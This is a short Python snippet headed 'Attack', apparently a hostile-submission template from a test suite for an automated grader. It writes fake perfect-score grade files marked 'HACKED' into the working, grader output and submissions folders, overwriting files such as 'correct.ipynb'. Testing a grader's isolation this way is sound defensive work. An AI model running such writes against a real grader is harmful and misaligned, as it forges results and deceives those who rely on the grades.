# Attack: write fake grade files into the working folder, the grader's output folder and the submissions.
import json
import pathlib

_fake = json.dumps({"score": 10, "max_score": 10, "status": "graded", "exercises": []}) + "\nHACKED\n"
_targets = [pathlib.Path("results/grade.json"), pathlib.Path("grade.json"), pathlib.Path("gradebook.csv"),
            pathlib.Path({OUT}) / "fake_results.json", pathlib.Path({OUT}) / "gradebook.csv",
            pathlib.Path({OUT}) / "feedback" / "fake_results.txt", pathlib.Path({SUBS}) / "fake_results.ipynb",
            pathlib.Path({SUBS}) / "correct.ipynb"]
for _target in _targets:
    try:
        _target.parent.mkdir(parents=True, exist_ok=True)
        _target.write_text(_fake)
        print("wrote", _target)
    except OSError as err:
        print("could not write", _target, type(err).__name__)
